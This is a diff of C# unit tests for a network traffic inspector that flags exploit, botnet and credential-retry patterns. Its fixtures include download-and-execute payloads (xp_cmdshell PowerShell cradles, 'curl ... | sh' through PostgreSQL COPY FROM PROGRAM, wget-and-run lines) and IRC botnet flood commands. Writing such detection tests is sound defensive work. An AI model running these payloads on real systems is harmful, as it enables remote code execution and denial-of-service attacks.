@@ -82,6 +82,10 @@ public class IndicatorPeekTests
         byte[] Batch(string text) => [1, 1, 0, 0, 0, 0, 1, 0, .. new byte[22], .. Encoding.Unicode.GetBytes(text)];
         Assert.Equal("xp-cmdshell", Look(Batch("EXEC xp_cmdshell 'powershell -nop -c IEX(New-Object Net.WebClient).DownloadString(''http://x/a'')'"), application: AppProtocol.Tds)!.Name);
         Assert.Null(Look(Batch("EXEC xp_cmdshell 'dir D:\\backup'"), application: AppProtocol.Tds));
+        Assert.Equal(IndicatorKind.Exploit, Look(Batch("EXEC xp_cmdshell 'powershell -w hidden -enc SQBFAFgA'"), application: AppProtocol.Tds)!.Kind);
+        Assert.Equal(IndicatorKind.RemoteAdmin, Look(Batch("EXEC xp_cmdshell 'powershell -ExecutionPolicy Bypass -File D:\\jobs\\backup.ps1'"), application: AppProtocol.Tds)!.Kind);
+        Assert.Equal(IndicatorKind.RemoteAdmin, Look("Q\0\0\0HCOPY x FROM PROGRAM 'curl -s https://bank.example/rates.csv' CSV;\0", application: AppProtocol.PostgreSql)!.Kind);
+        Assert.Equal(IndicatorKind.Exploit, Look("Q\0\0\0HCOPY x FROM PROGRAM 'curl http://203.0.113.9/x.sh | sh';\0", application: AppProtocol.PostgreSql)!.Kind);
         Assert.Null(Look(Batch("SELECT 'powershell -nop' FROM notes"), application: AppProtocol.Tds));
     }
 
@@ -126,10 +130,34 @@ public class IndicatorPeekTests
     }
 
     [Theory]
+    [InlineData("Action: Login\r\nActionID: 1\r\nUsername: m\r\nSecret: x\r\n\r\n", "Action: Login\r\nActionID: 2\r\nUsername: m\r\nSecret: x\r\n\r\n", true)]
+    [InlineData("{\"seq\":1,\"user\":\"t\",\"password\":\"x\"}", "{\"seq\":2,\"user\":\"t\",\"password\":\"x\"}", true)]
+    [InlineData("{\"seq\":1,\"user\":\"t\",\"password\":\"x\"}", "{\"seq\":1,\"user\":\"t\",\"password\":\"y\"}", false)]
+    [InlineData("user=a password=x", "user=b password=x", false)]
+    [InlineData("LOGIN ann x1\r\n", "LOGIN ann x2\r\n", false)]
+    public void Only_the_name_and_the_secret_tell_whether_the_same_is_sent_again(string first, string second, bool same)
+    {
+        uint Mark(string question)
+        {
+            var peek = new PayloadPeek();
+            var state = new PeekState();
+            peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 5038, Encoding.ASCII.GetBytes(question));
+            return Assert.IsType<LoginResult>(peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 5038, "error: access denied\r\n"u8)).CredentialHash;
+        }
+
+        Assert.Equal(same, Mark(first) == Mark(second));
+    }
+
+    [Theory]
     [InlineData("NICK [DEU|W10|x64]48213\r\nUSER x 0 * :x\r\n", false, true)]
     [InlineData("NICK USA|XP|00|81273\r\n", false, true)]
     [InlineData("NICK Bob|1985\r\n", false, false)]
     [InlineData("NICK [UK]Anna|away\r\n", false, false)]
+    [InlineData("NICK [GER|1337]Max\r\n", false, false)]
+    [InlineData("NICK [GER|13370]Anna\r\n", false, false)]
+    [InlineData(":ann!x@y PRIVMSG #ops :!scan 192.0.2.9\r\n", true, false)]
+    [InlineData(":ann!x@y PRIVMSG #ops :!httpcheck 192.0.2.9 443\r\n", true, false)]
+    [InlineData(":boss!x@y PRIVMSG #rx :.udp 192.0.2.9 53 60\r\n", true, true)]
     [InlineData(":boss!x@y PRIVMSG #rx :.ddos.syn 192.0.2.9 80 60\r\n", true, true)]
     [InlineData(":boss!x@y PRIVMSG #rx :!udpflood 192.0.2.9 53\r\n", true, true)]
     [InlineData(":ann!x@y PRIVMSG #net :who has seen a udp flood from 192.0.2.9?\r\n", true, false)]
@@ -157,6 +185,9 @@ public class IndicatorPeekTests
     [InlineData("orf;cd /tmp; wget http://203.0.113.9/b/mips; sh mips", true)]
     [InlineData("orf;cd /tmp; wget http://files.example/b/mips", false)]
     [InlineData("<13>Nov 27 app: see wget http://203.0.113.9/notes", false)]
+    [InlineData("<78>Nov 27 web CRON[12]: (root) CMD (cd /opt; wget http://203.0.113.9/ping)", false)]
+    [InlineData("{\"short_message\":\"(cd /opt; wget http://203.0.113.9/ping)\"}", false)]
+    [InlineData("job 7 ran: cd /opt; wget http://203.0.113.9/ping", false)]
     public void A_datagram_that_loads_from_a_bare_address_is_an_exploit(string text, bool found)
     {
         var state = new PeekState();
